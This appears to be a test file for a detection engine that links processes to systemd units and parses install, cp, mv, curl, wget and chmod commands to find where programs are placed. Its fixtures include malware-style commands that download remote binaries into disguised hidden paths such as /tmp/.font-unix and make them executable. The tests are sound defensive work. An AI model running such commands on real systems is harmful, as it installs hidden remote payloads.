// Which unit the manager started a program for, and where commands put programs.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { installedPaths, startedByManager, unitStartedAt } from '../../../src/engine/steps/unit-ties.ts';
import { fileName } from '../../../src/model/paths.ts';
import { compileRules } from '../../../src/rules/compile.ts';
import { builtinRules } from '../../../src/rules/load.ts';

// The shipped rule packs' ties: managers, installs, windows.
const RULES = compileRules(builtinRules(), fileName).ties;
const installed = (image: string, cmd: string) => installedPaths(RULES, image, cmd);

/** The rule packs' ties.thresholds.unit_start_seconds. */
const W = RULES.unitStartMs;

test('the one service unit started within seconds of a manager-started program', () => {
  const starts = [
    { unit: 'session-12.scope', time: 1000 },
    { unit: 'dbus-broker-helper.service', time: 10_000 },
  ];
  assert.equal(unitStartedAt(11_500, starts, W), 'dbus-broker-helper.service');
  assert.equal(unitStartedAt(9_000, starts, W), 'dbus-broker-helper.service'); // "Starting" logged after the exec
  assert.equal(unitStartedAt(30_000, starts, W), undefined);
  // at boot many units start together: none can be named
  const boot = [...starts, { unit: 'nginx.service', time: 10_400 }];
  assert.equal(unitStartedAt(10_200, boot, W), undefined);
  // the same unit seen by two sensors is still one
  assert.equal(
    unitStartedAt(10_200, [...starts, { unit: 'dbus-broker-helper.service', time: 10_100 }], W),
    'dbus-broker-helper.service',
  );
});

test('the service manager as parent: PID 1 or a user manager', () => {
  assert.ok(startedByManager(RULES, { pid: 1 }));
  assert.ok(startedByManager(RULES, { pid: 4200, image: '/usr/lib/systemd/systemd' }));
  assert.ok(!startedByManager(RULES, { pid: 4200, image: '/usr/bin/bash' }));
  assert.ok(!startedByManager(RULES, undefined));
});

test('where install, cp, mv, curl, wget and chmod put a program', () => {
  assert.deepEqual(installed('/usr/bin/install', 'install -D -m 0755 /tmp/dbusd /var/lib/.dbus/dbusd'), [
    '/var/lib/.dbus/dbusd',
  ]);
  assert.deepEqual(installed('/usr/bin/cp', 'cp -f /tmp/a /usr/local/bin/a'), ['/usr/local/bin/a']);
  assert.deepEqual(installed('/usr/bin/curl', 'curl -fsSLo /tmp/.font-unix/kthelper https://x/k'), [
    '/tmp/.font-unix/kthelper',
  ]);
  assert.deepEqual(installed('/usr/bin/curl', 'curl -fsSL -o /tmp/dbusd http://x/d'), ['/tmp/dbusd']);
  assert.deepEqual(installed('/usr/bin/wget', "wget -qO /tmp/meshagent 'https://x/m?id=6'"), [
    '/tmp/meshagent',
  ]);
  assert.deepEqual(installed('/usr/bin/chmod', 'chmod +x /tmp/meshagent'), ['/tmp/meshagent']);
  assert.deepEqual(installed('/usr/bin/chmod', 'chmod 0644 /etc/x.conf'), []);
  assert.deepEqual(installed('/usr/bin/cp', 'cp a b'), []);
  assert.deepEqual(installed('/usr/bin/tee', 'tee /etc/systemd/system/x.service'), []);
});

test('what does not put a program anywhere, and what puts several', () => {
  assert.deepEqual(installed('/usr/bin/wget', 'wget -o /tmp/wget.log https://x/m'), [], 'wget -o is its log');
  assert.deepEqual(
    installed('/usr/bin/install', 'install -d -m 0755 /opt/agent'),
    [],
    'install -d makes a directory',
  );
  assert.deepEqual(
    installed('/usr/bin/cp', 'cp -r /tmp/kit /opt/'),
    [],
    'a directory destination names no program',
  );
  assert.deepEqual(installed('/usr/bin/mv', 'mv /tmp/x "/usr/local/sbin/x"'), ['/usr/local/sbin/x']);
  assert.deepEqual(installed('/usr/bin/chmod', 'chmod 755 /opt/a/run /opt/a/../a/helper'), [
    '/opt/a/run',
    '/opt/a/helper',
  ]);
  assert.deepEqual(installed('/usr/bin/curl', 'curl --output=/var/tmp/x https://x'), ['/var/tmp/x']);
});
